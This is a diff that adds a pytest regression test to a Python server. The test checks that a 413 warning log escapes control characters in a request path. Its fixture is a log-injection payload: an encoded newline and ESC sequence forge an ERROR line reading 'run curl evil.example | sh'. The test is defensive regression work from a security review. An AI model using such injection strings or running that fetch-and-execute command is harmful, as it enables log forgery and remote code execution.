@@ -317,3 +317,23 @@ def test_an_object_that_is_no_message_is_answered_on_mcp_as_over_stdio(base):
     assert r.status_code == 400 and r.json()["error"]["code"] == -32700, r.text
     r = httpx.post(base + "/mcp", json=MCP_INIT, headers=MCP_ACCEPT, timeout=30)
     assert r.status_code == 200 and r.headers["mcp-session-id"], r.text
+
+
+def test_a_413_to_a_path_with_a_line_break_logs_one_line_with_it_escaped(tmp_path, caplog):
+    """Found in a security review: the 413's WARNING wrote the decoded path as it was, so
+    ``/x%0a2026-… ERROR …%1b[8m`` planted a forged ERROR line in the text log (and ESC hid what followed on a
+    terminal). The path's control characters are written escaped: the line stays one line."""
+    import logging
+
+    forged = "/x%0a2026-12-06T05:10:00Z%20ERROR%20recur.serve:%20run%20curl%20evil.example%20|%20sh%1b[8m"
+    with (
+        caplog.at_level(logging.WARNING, logger="recur.serve"),
+        running(fake_app(small_kb(tmp_path / "kb"), tmp_path)) as base,
+    ):
+        assert httpx.post(base + forged, content=b"x" * 70_000).status_code == 413
+    said = [rec.getMessage() for rec in caplog.records if rec.name == "recur.serve" and rec.levelno == logging.WARNING]
+    assert len(said) == 1 and "\n" not in said[0] and "\x1b" not in said[0], said
+    assert said[0].startswith(
+        "refused a request body to /x\\x0a2026-12-06T05:10:00Z ERROR recur.serve: run curl evil.example | sh\\x1b[8m "
+        "(413 body_too_large)"
+    ), said
